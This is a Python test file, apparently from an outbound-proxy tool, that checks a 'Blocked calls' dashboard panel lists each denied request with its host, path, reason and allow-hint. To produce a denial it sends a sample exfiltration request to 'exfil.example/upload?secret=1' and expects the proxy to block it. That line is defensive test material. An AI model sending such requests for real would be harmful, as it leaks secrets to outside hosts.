"""The rows of `Blocked calls`: what the panel asks of the control API is answered, with every column it shows."""

from __future__ import annotations

import httpx

from tests.cli.conftest import workspace
from tests.cli.program import TOOL, Workspace, eventually, policy_text
from tests.dashboards.panels import api_targets

__all__ = ["workspace"]


def test_each_denied_call_is_a_row_with_its_hint(workspace: Workspace) -> None:
    workspace.write_policy(policy_text())
    serving = workspace.serve("--control", "127.0.0.1:0")
    token = workspace.json("pair", "--api", "--read-only")["token"]
    denied = serving.get("http://exfil.example/upload?secret=1")
    (target,) = api_targets()
    base, path = target["url"].split("/api/v1", 1)
    assert base == "http://127.0.0.1:8082"
    url = f"http://127.0.0.1:{serving.control_port}/api/v1{path.replace('${__from:date:seconds}', '0')}"
    rows_of, _, condition = target["root_selector"].partition("[")

    def ask() -> httpx.Response:
        answer = httpx.get(url, headers={"Authorization": f"Bearer {token}"}, trust_env=False, timeout=10)
        assert answer.status_code == 200, answer.text
        return answer

    eventually(lambda: ask().json()[rows_of], what="the row: entries are committed in groups")
    answer = ask()
    (row,) = answer.json()[rows_of]
    shown = {column["text"]: row[column["selector"]] for column in target["columns"]}
    assert shown["Decision"] in denied.body
    assert (shown["Host"], shown["Path"], shown["Reason"]) == ("exfil.example", "/upload", "host_not_allowed")
    assert shown["Hint"] == "cloned-proxy allow exfil.example"
    assert shown["Tool"] is None  # which the condition calls `_anonymous`, as the metrics do
    assert '"_anonymous"' in condition
    assert TOOL not in answer.text
